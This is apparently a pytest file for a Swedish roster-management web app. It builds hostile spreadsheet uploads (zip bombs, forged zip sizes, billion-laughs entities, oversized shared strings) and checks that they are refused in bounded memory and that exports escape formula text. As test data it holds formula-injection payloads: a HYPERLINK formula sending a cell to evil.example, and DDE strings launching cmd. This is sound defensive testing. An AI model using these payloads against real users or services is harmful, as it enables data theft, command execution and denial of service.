"""Roster files: hostile uploads are refused quickly in bounded memory, and cells cannot carry formulas.

Item 15 (issue 11): an xlsx file is a zip of XML parts; a small upload could declare millions of cells, hold
a shared string of a gigabyte, lie about its parts' sizes, or hold a zip bomb. Each such file is built here,
small on disk, and sent to the import page; it must be refused with a specific message and a 4xx status,
within seconds and a few tens of megabytes (tracemalloc), and nothing of it stored. CSV files have the same
row, line, column and cell limits.

Item 16: names that begin with a formula trigger or hold control or text-direction characters are refused
at import (roster add and file import), and every CSV/xlsx file the app writes escapes formula-like text
(read back here to show it is inert).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from apn.extensions import db
from apn.models import GroupMember, Person
from apn.services import accounts
from apn.tenancy import tenant_scope
from apn.testing import factories as f

PASSWORD = "correct horse battery"
MB = 1024 * 1024
#: Generous for a loaded two-core CI machine: the refusals below take well under a second on a laptop.
TIME_LIMIT = 10.0
#: The hostile files unpack to 64 MB to 82 million cells; a refusal must not come near that.
MEMORY_LIMIT = 40 * MB


@dataclass
class World:
    """Two municipalities, each with an association and a group; the first one's administrator."""

    tenant_id: int
    slug: str
    association_id: int
    group_id: int
    other_tenant_id: int
    other_slug: str
    other_association_id: int
    other_group_id: int


@pytest.fixture
def world(app) -> World:
    with app.app_context():
        t = f.create_tenant(slug="umea", kommunkod="2480", name="Umeå kommun")
        a = f.create_association(t, name="IK Test")
        g = f.create_group(t, a, name="P13 fotboll")
        t2 = f.create_tenant(slug="lulea", kommunkod="2580", name="Luleå kommun")
        a2 = f.create_association(t2, name="Other IF")
        g2 = f.create_group(t2, a2, name="Other group")
        for email, tenant, assoc in (("admin@ik.se", t, a), ("admin@other.se", t2, a2)):
            user = accounts.create_user(email, "Ada Admin", PASSWORD)
            with tenant_scope(tenant.id):
                accounts.grant_role(user, "association_admin", association_id=assoc.id)
        db.session.commit()
        return World(t.id, t.slug, a.id, g.id, t2.id, t2.slug, a2.id, g2.id)


def _signed_in(app, email: str):
    client = app.test_client()
    assert client.post("/login", data={"email": email, "password": PASSWORD}).status_code == 302
    return client


@pytest.fixture
def admin(app, world):
    return _signed_in(app, "admin@ik.se")


def _import_url(world: World, other: bool = False) -> str:
    if other:
        return (f"/k/{world.other_slug}/associations/{world.other_association_id}/groups/"
                f"{world.other_group_id}/import")
    return f"/k/{world.slug}/associations/{world.association_id}/groups/{world.group_id}/import"


def _post(client, url: str, data: bytes, filename: str):
    resp = client.post(url, data={"file": (io.BytesIO(data), filename), "default_role": "participant"},
                       content_type="multipart/form-data")
    resp.request.environ["wsgi.input"].close()  # the test client spools large bodies to a file it leaves open
    return resp


def _stored(app, tenant_id: int) -> tuple[int, int]:
    """(people, roster rows) of a municipality."""
    with app.app_context(), tenant_scope(tenant_id):
        people = db.session.scalar(select(func.count()).select_from(Person))
        members = db.session.scalar(select(func.count()).select_from(GroupMember))
    return people, members


def _text(html: str) -> str:
    """The page's text with entities of quotes undone and whitespace collapsed."""
    return re.sub(r"\s+", " ", html.replace("&#39;", "'").replace("&#34;", '"').replace("&quot;", '"'))


# --- building xlsx files -------------------------------------------------------------------------------------

SHEET = "xl/worksheets/sheet1.xml"
NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SST_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"


def _workbook(rows: list[list]) -> bytes:
    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


BASE_ROWS = [["förnamn", "efternamn", "födelsedatum", "kön"], ["Lo", "Ask", "2014-03-04", "F"]]


def _repeat(piece: bytes, total: int) -> Iterable[bytes]:
    """``total`` bytes of ``piece`` repeated, in 1 MB chunks (nothing large is held)."""
    block = piece * (MB // len(piece))
    sent = 0
    while sent < total:
        chunk = block[:total - sent]
        sent += len(chunk)
        yield chunk


def _rezip(base: bytes, replace: dict[str, Iterable[bytes] | bytes], add: dict[str, bytes] | None = None,
           compress_type: int = zipfile.ZIP_DEFLATED) -> bytes:
    """``base`` with parts replaced (streamed, fast Deflate) and parts added."""
    src = zipfile.ZipFile(io.BytesIO(base))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for info in src.infolist():
            content = replace.get(info.filename, src.read(info.filename))
            with zf.open(info.filename, "w") as dst:
                for chunk in [content] if isinstance(content, bytes) else content:
                    dst.write(chunk)
        for name, content in (add or {}).items():
            zf.writestr(zipfile.ZipInfo(name), content, compress_type=compress_type)
    return out.getvalue()


def _sheet(rows_xml: Iterable[bytes], dimension: str | None = None, padding: int = 0) -> Iterable[bytes]:
    yield f'<worksheet xmlns="{NS}">'.encode()
    if dimension:
        yield f'<dimension ref="{dimension}"/>'.encode()
    yield b"<sheetData>"
    yield from rows_xml
    yield b"</sheetData>"
    if padding:
        yield from _repeat(b" ", padding)
    yield b"</worksheet>"


def _inline_row(r: int, values: list[str]) -> bytes:
    cells = "".join(f'<c r="{chr(65 + i)}{r}" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(values))
    return f'<row r="{r}">{cells}</row>'.encode()


def _patch_declared(data: bytes, name: str, size: int, crc: int) -> bytes:
    """Make the zip directory and local header of ``name`` declare another unpacked size and CRC."""
    buf = bytearray(data)
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(name)
    local = info.header_offset
    buf[local + 14:local + 18] = crc.to_bytes(4, "little")
    buf[local + 22:local + 26] = size.to_bytes(4, "little")
    central = buf.find(b"PK\x01\x02")
    while central >= 0:
        n = int.from_bytes(buf[central + 28:central + 30], "little")
        if bytes(buf[central + 46:central + 46 + n]) == name.encode():
            buf[central + 16:central + 20] = crc.to_bytes(4, "little")
            buf[central + 24:central + 28] = size.to_bytes(4, "little")
            return bytes(buf)
        central = buf.find(b"PK\x01\x02", central + 4)
    raise AssertionError(f"{name} not in the central directory")


def dimension_82m() -> bytes:
    """43 KB declaring 5,002 rows of 16,384 columns: 82 million cells if rows are padded to the dimension."""
    rows = (_inline_row(r, ["x"]) for r in range(1, 5003))
    return _rezip(_workbook(BASE_ROWS), {SHEET: _sheet(rows, dimension="A1:XFD5002")})


def dimension_rows() -> bytes:
    """A sheet that declares a million rows."""
    rows = (_inline_row(r, v) for r, v in enumerate(BASE_ROWS, start=1))
    return _rezip(_workbook(BASE_ROWS), {SHEET: _sheet(rows, dimension="A1:D1048576")})


def far_row() -> bytes:
    """No dimension, but a row numbered 1,048,576: a reader fills the gap with a million empty rows."""
    rows = [_inline_row(r, v) for r, v in enumerate(BASE_ROWS, start=1)] + [_inline_row(1048576, ["x"])]
    return _rezip(_workbook(BASE_ROWS), {SHEET: _sheet(rows)})


def shared_string_64mb() -> bytes:
    """One shared string of 64 MB (the issue's was 1 GB): about 300 KB on disk."""
    base = _workbook(BASE_ROWS)
    types = zipfile.ZipFile(io.BytesIO(base)).read("[Content_Types].xml").replace(
        b"</Types>", f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SST_TYPE}"/></Types>'.encode())
    sst = [f'<sst xmlns="{NS}" count="1" uniqueCount="1"><si><t>'.encode(), *_repeat(b"A", 64 * MB),
           b"</t></si></sst>"]
    rows = [_inline_row(1, BASE_ROWS[0]), b'<row r="2"><c r="A2" t="s"><v>0</v></c></row>']
    return _with_part(base, {"[Content_Types].xml": types, SHEET: _sheet(rows)}, "xl/sharedStrings.xml", sst)


def _with_part(base: bytes, replace: dict, name: str, chunks: Iterable[bytes]) -> bytes:
    """``base`` with parts replaced and one more part streamed in."""
    first = _rezip(base, replace)
    out = io.BytesIO(first)
    with zipfile.ZipFile(out, "a", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        with zf.open(name, "w") as dst:
            for chunk in chunks:
                dst.write(chunk)
    return out.getvalue()


def lying_size() -> bytes:
    """workbook.xml says it is its true small size (with the CRC to match), but its Deflate stream goes on
    for 64 MB more: a reader that trusts the declared size inflates it all before cutting it short."""
    base = _workbook(BASE_ROWS)
    real = zipfile.ZipFile(io.BytesIO(base)).read("xl/workbook.xml")
    padded = _rezip(base, {"xl/workbook.xml": iter([real, *_repeat(b" ", 64 * MB)])})
    return _patch_declared(padded, "xl/workbook.xml", len(real), zlib.crc32(real))


def too_many_parts() -> bytes:
    """More zip members than any workbook has."""
    return _rezip(_workbook(BASE_ROWS), {}, add={f"customXml/item{i}.xml": b"<a/>" for i in range(300)})


def bzip2_part() -> bytes:
    """A part packed with bzip2, whose reader inflates a whole packed block at once (Excel never does this)."""
    return _rezip(_workbook(BASE_ROWS), {}, add={"customXml/item1.xml": b"<a/>" * 100},
                  compress_type=zipfile.ZIP_BZIP2)


def many_cells() -> bytes:
    """5,000 rows of 40 cells: 200,000 cells, each one parsed by openpyxl."""
    row = "".join(f'<c r="{chr(65 + i % 26)}{{r}}"><v>1</v></c>' for i in range(40))
    rows = (f'<row r="{r}">{row.replace("{r}", str(r))}</row>'.encode() for r in range(1, 5001))
    return _rezip(_workbook(BASE_ROWS), {SHEET: _sheet(rows)})


def ratio_bomb() -> bytes:
    """A sheet padded with 3 MB of blanks: it unpacks to hundreds of times its packed size."""
    rows = (_inline_row(r, v) for r, v in enumerate(BASE_ROWS, start=1))
    return _rezip(_workbook(BASE_ROWS), {SHEET: _sheet(rows, padding=3 * MB)})


def doctype() -> bytes:
    """workbook.xml with an entity expansion ("billion laughs")."""
    base = _workbook(BASE_ROWS)
    real = zipfile.ZipFile(io.BytesIO(base)).read("xl/workbook.xml")
    dtd = ('<!DOCTYPE workbook [<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)) + "]>").encode()
    return _rezip(base, {"xl/workbook.xml": dtd + real})


def long_cell_xlsx() -> bytes:
    """A cell of 5,000 characters in a column the import does not use."""
    return _workbook([BASE_ROWS[0] + ["anteckning"], BASE_ROWS[1] + ["x" * 5000]])


def csv_long_cell() -> bytes:
    return ("förnamn;efternamn;födelsedatum;kön;anteckning\nLo;Ask;2014-03-04;F;" + "x" * 5000 + "\n").encode()


def csv_wide() -> bytes:
    return ("förnamn;efternamn;födelsedatum;kön\nLo;Ask;2014-03-04;F;" + ";".join(["x"] * 300) + "\n").encode()


def csv_rows_after_blank_lines() -> bytes:
    """5,001 rows after three blank lines (the blank lines used to hide the last rows from the row limit)."""
    return ("förnamn;efternamn;födelsedatum;kön\n\n\n\n" + "Lo;;;\n" * 5001).encode()


def csv_blank_lines() -> bytes:
    return ("förnamn;efternamn;födelsedatum;kön\nLo;Ask;2014-03-04;F\n" + "\n" * 30_000 + "Mo;Al;2014-03-04;F\n"
            ).encode()


def csv_too_large() -> bytes:
    return b"f\xc3\xb6rnamn;efternamn\n" + b"Lo;Ask\n" * (6 * MB // 7)


#: name: (builder, file name, status, what the Swedish message says)
HOSTILE: dict[str, tuple[Callable[[], bytes], str, int, str]] = {
    "dimension_82m": (dimension_82m, "x.xlsx", 413, "Bladet anger 16384 kolumner (A1:XFD5002)"),
    "dimension_rows": (dimension_rows, "x.xlsx", 413, "Bladet anger 1048576 rader (A1:D1048576)"),
    "far_row": (far_row, "x.xlsx", 413, "Filen har fler än 20000 rader"),
    "shared_string_64mb": (shared_string_64mb, "x.xlsx", 413, "xl/sharedStrings.xml packas upp till mer än 4 MB"),
    "lying_size": (lying_size, "x.xlsx", 400, "Excel-filen är skadad: delen xl/workbook.xml"),
    "too_many_parts": (too_many_parts, "x.xlsx", 413, "Excel-filen har 309 delar; högst 200"),
    "bzip2_part": (bzip2_part, "x.xlsx", 400, "Excel-filen är krypterad eller packad på ett ovanligt sätt"),
    "many_cells": (many_cells, "x.xlsx", 413, "mer än 150000 celler"),
    "ratio_bomb": (ratio_bomb, "x.xlsx", 413, "packas upp till"),
    "doctype": (doctype, "x.xlsx", 400, "deklarerar en DTD eller entiteter"),
    "long_cell_xlsx": (long_cell_xlsx, "x.xlsx", 400, "Rad 2, kolumn 5: värdet är 5000 tecken långt; högst 1000"),
    "csv_long_cell": (csv_long_cell, "x.csv", 400, "Rad 2, kolumn 5: värdet är 5000 tecken långt; högst 1000"),
    "csv_wide": (csv_wide, "x.csv", 400, "Rad 2 har 304 kolumner; högst 256"),
    "csv_rows_after_blank_lines": (csv_rows_after_blank_lines, "x.csv", 413, "Filen har fler än 5000 rader"),
    "csv_blank_lines": (csv_blank_lines, "x.csv", 413, "Filen har fler än 20000 rader"),
    "csv_too_large": (csv_too_large, "x.csv", 413, "Filen är för stor (högst 5 MB)"),
}


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_hostile_roster_file_is_refused_quickly_in_bounded_memory(app, world, admin, kind):
    build, filename, status, message = HOSTILE[kind]
    data = build()
    assert len(data) < 6 * MB + 100  # small on disk
    tracemalloc.start()
    try:
        started = time.perf_counter()
        resp = _post(admin, _import_url(world), data, filename)
        elapsed = time.perf_counter() - started
        _size, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert elapsed < TIME_LIMIT, f"{kind}: {elapsed:.1f} s"
    assert peak < MEMORY_LIMIT + 2 * len(data), f"{kind}: {peak / MB:.0f} MB"
    html = _text(resp.get_data(as_text=True))
    assert resp.status_code == status, (resp.status_code, re.findall(r'id="file-error"[^<]*<[^<]*', html))
    assert message in html
    assert 'id="file-error"' in html  # the form names the field
    assert _stored(app, world.tenant_id) == (0, 0)


def test_same_refusal_in_another_municipality(app, world):
    other = _signed_in(app, "admin@other.se")
    resp = _post(other, _import_url(world, other=True), dimension_82m(), "lista.xlsx")
    assert resp.status_code == 413 and "16384 kolumner" in _text(resp.get_data(as_text=True))
    assert _stored(app, world.other_tenant_id) == (0, 0)


def test_a_file_named_csv_that_is_a_zip_is_checked_as_xlsx(app, world, admin):
    resp = _post(admin, _import_url(world), shared_string_64mb(), "lista.csv")
    assert resp.status_code == 413 and "sharedStrings.xml" in _text(resp.get_data(as_text=True))


def test_a_full_size_roster_still_reads_within_bounds(ctx):
    """5,000 rows of 12 columns (a club system's export) pass every limit, in bounded memory."""
    from apn.formats.spreadsheet import read_csv, read_xlsx

    heading = ["förnamn", "efternamn", "personnummer", "födelsedatum", "kön", "roll"] + [f"x{i}" for i in range(6)]
    body = [[f"Namn{i}", f"Efternamn{i}", "", "2012-01-02", "F", "deltagare"] + ["v"] * 6 for i in range(5000)]
    data = _workbook([heading, *body])
    tracemalloc.start()
    try:
        rows = read_xlsx(data)
        _size, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(rows) == 5001 and rows[-1] == (5001, body[-1]) and peak < 64 * MB
    text = "\n".join(";".join(r) for r in [heading, *body]).encode()
    assert read_csv(text)[-1] == (5001, body[-1])


def test_a_file_as_excel_writes_it_reads(ctx):
    """Excel keeps text in xl/sharedStrings.xml and states the sheet's dimension; 5,000 such rows pass."""
    from apn.formats.spreadsheet import read_xlsx

    base = _workbook(BASE_ROWS)
    types = zipfile.ZipFile(io.BytesIO(base)).read("[Content_Types].xml").replace(
        b"</Types>", f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SST_TYPE}"/></Types>'.encode())
    names = [f"Namn{i}" for i in range(5000)]
    sst = [f'<sst xmlns="{NS}" count="5000" uniqueCount="5000">'.encode(),
           *(f"<si><t>{n}</t></si>".encode() for n in names), b"</sst>"]
    rows = [_inline_row(1, BASE_ROWS[0])] + [
        f'<row r="{r}"><c r="A{r}" t="s"><v>{r - 2}</v></c><c r="B{r}" t="inlineStr"><is><t>Ask</t></is></c>'
        f'<c r="C{r}" s="0"><v>41000</v></c><c r="D{r}" t="inlineStr"><is><t>F</t></is></c></row>'.encode()
        for r in range(2, 5002)]
    data = _with_part(base, {"[Content_Types].xml": types, SHEET: _sheet(rows, dimension="A1:D5001")},
                      "xl/sharedStrings.xml", sst)
    got = read_xlsx(data)
    assert len(got) == 5001 and got[1] == (2, ["Namn0", "Ask", 41000, "F"]) and got[-1][1][0] == "Namn4999"


# --- item 16: formula triggers and control characters at import --------------------------------------------

#: A first name each; every one is refused with the reason.
HOSTILE_NAMES = {
    "equals": '=HYPERLINK("http://evil.example/?d="&C2,"Klicka")',
    "plus": "+46701234567",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab_then_equals": "\t=1+1",
    "cr_then_equals": "\r=1+1",
    "space_then_equals": "  =1+1",
    "fullwidth_equals": "\uff1d1+1",
    "nul": "An\x00na",
    "escape": "Anna\x1b[31m",
    "line_break": "An\nna",
    "rlo": "Anna\u202egreB",
    "lre": "\u202aAnna",
    "pdf": "Anna\u202c",
    "lri": "Anna\u2066x\u2069",
    "fsi": "\u2068Anna",
    "line_separator": "An\u2028na",
}


def _csv_field(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def test_csv_import_refuses_every_formula_trigger_and_control_character(app, world, admin):
    lines = ["förnamn;efternamn;födelsedatum;kön", "Lo;Ask;2014-03-04;F"]
    lines += [f"{_csv_field(name)};Berg;2014-03-04;F" for name in HOSTILE_NAMES.values()]
    resp = _post(admin, _import_url(world), ("\n".join(lines) + "\n").encode("utf-8"), "lista.csv")
    html = resp.get_data(as_text=True)
    assert resp.status_code == 200
    refused = re.findall(r"<td>(\d+)</td><td>förnamn</td><td>([^<]*)</td>", html)
    assert len(refused) == len(HOSTILE_NAMES), refused
    assert all("formel" in reason or "styrtecken" in reason for _line, reason in refused), refused
    with app.app_context(), tenant_scope(world.tenant_id):
        names = db.session.execute(select(Person.first_name, Person.last_name)).all()
    assert names == [("Lo", "Ask")]


def test_xlsx_import_refuses_formula_text_and_control_characters(app, world, admin):
    wb = Workbook()
    ws = wb.active
    ws.append(["Förnamn", "Efternamn", "Födelsedatum", "Kön"])
    ws.append(["Lo", "Ask", dt.datetime(2014, 3, 4), "F"])
    for name in ("=1+1", "+1", "-1", "@A1", "Anna\u202e", "An\u2066na"):
        ws.append([name, "Berg", dt.datetime(2014, 3, 4), "F"])
        ws.cell(ws.max_row, 1).data_type = "s"  # text that looks like a formula, not a formula
    ws.append(["Mo", "=cmd|' /C calc'!A0", dt.datetime(2014, 3, 4), "F"])
    ws.cell(ws.max_row, 2).data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    resp = _post(admin, _import_url(world), buf.getvalue(), "lista.xlsx")
    html = resp.get_data(as_text=True)
    assert resp.status_code == 200 and "1 tillagda" in html
    assert len(re.findall(r"<td>\d+</td><td>Förnamn</td><td>[^<]*(?:formel|styrtecken)", html)) == 6
    assert re.search(r"<td>9</td><td>Efternamn</td><td>[^<]*formel", html)
    assert _stored(app, world.tenant_id) == (1, 1)


def test_surrounding_blanks_are_trimmed_not_refused(app, world, admin):
    data = "förnamn;efternamn;födelsedatum;kön\n\"\tLo \";\" Ask\r\";2014-03-04;F\n".encode()
    resp = _post(admin, _import_url(world), data, "lista.csv")
    assert resp.status_code == 200 and "1 tillagda" in resp.get_data(as_text=True)
    with app.app_context(), tenant_scope(world.tenant_id):
        assert db.session.execute(select(Person.first_name, Person.last_name)).all() == [("Lo", "Ask")]


def _field_error(html: str, field: str) -> str:
    m = re.search(rf'id="{field}-error">(.*?)</p>', html, re.S)
    return re.sub(r"<[^>]+>", "", m.group(1)) if m else ""


@pytest.mark.parametrize("name", ["=1+1", "-cmd", "@x", "+x", "\uff1dx", " =x"])
def test_roster_add_form_refuses_formula_triggers(app, world, admin, name):
    url = f"/k/{world.slug}/associations/{world.association_id}/groups/{world.group_id}/people"
    resp = admin.post(url, data={"role": "participant", "first_name": "Lo", "last_name": name,
                                 "birth_date": "2014-03-04", "sex": "F"})
    assert resp.status_code == 422
    assert "formel" in _field_error(resp.get_data(as_text=True), "last_name")
    assert _stored(app, world.tenant_id) == (0, 0)


@pytest.mark.parametrize("name", ["An\x00na", "Anna\u202e", "An\u2066na", "An\x1bna"])
def test_roster_add_form_refuses_control_characters(app, world, admin, name):
    url = f"/k/{world.slug}/associations/{world.association_id}/groups/{world.group_id}/people"
    resp = admin.post(url, data={"role": "participant", "first_name": name, "last_name": "Berg",
                                 "birth_date": "2014-03-04", "sex": "F"})
    assert resp.status_code in (400, 422)  # NUL is refused before any view; the others next to the field
    assert _stored(app, world.tenant_id) == (0, 0)


# --- item 16: every export escapes formula-like text ---------------------------------------------------------

EXPORTED = ['=HYPERLINK("http://evil.example/?d="&B2,"Klicka")', "+46701234567", "-2+3", "@SUM(A1:A3)",
            "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1"]


def test_safe_cell_escapes_text_and_keeps_numbers():
    from apn.exports.cells import safe_cell

    for text in EXPORTED:
        assert safe_cell(text) == "'" + text
    for value in (-5, -12.5, Decimal("-12.50"), 0, dt.date(2026, 1, 2), None, True, "Anna", "Anna-Lena", "'x"):
        assert safe_cell(value) == value


def test_csv_export_is_inert_when_read_back():
    from apn.exports.tables import csv_bytes

    data = csv_bytes(["namn", "belopp"], [[name, -5] for name in EXPORTED] + [["Anna", Decimal("-12.50")]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["namn", "belopp"]
    for (name, amount), text in zip(rows[1:], EXPORTED, strict=False):
        assert name == "'" + text and amount == "-5"
    assert rows[-1] == ["Anna", "-12.50"]
    # no field a spreadsheet would read as a formula
    assert not [v for row in rows for v in row if v[:1] in "=+@\t\r" or (v[:1] == "-" and not v[1:2].isdigit())]


def test_xlsx_export_is_inert_when_read_back():
    from apn.exports.tables import xlsx_bytes

    data = xlsx_bytes(["namn", "belopp", "datum"],
                      [[name, -5, dt.date(2026, 1, 2)] for name in EXPORTED] + [["An\x00na", Decimal("-12.50"), None]])
    ws = load_workbook(io.BytesIO(data)).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for row, text in zip(ws.iter_rows(min_row=2, values_only=True), EXPORTED, strict=False):
        assert row[0] == "'" + text and row[1] == -5 and row[2].date() == dt.date(2026, 1, 2)
    assert ws.cell(ws.max_row, 1).value == "An\ufffdna" and ws.cell(ws.max_row, 2).value == -12.5


def test_every_tabular_export_goes_through_the_one_writer():
    """Files the app writes with csv or openpyxl are written by apn/exports/tables.py only, so every cell
    passes safe_cell; anything else that writes them would escape the check."""
    root = Path(__file__).resolve().parents[2] / "apn"
    writers = re.compile(r"csv\.(?:writer|DictWriter)\(|\bWorkbook\(|xlsxwriter|write_only\s*=\s*True")
    found = [str(p.relative_to(root)) for p in root.rglob("*.py")
             if p.name != "tables.py" and writers.search(p.read_text("utf-8"))]
    assert found == []
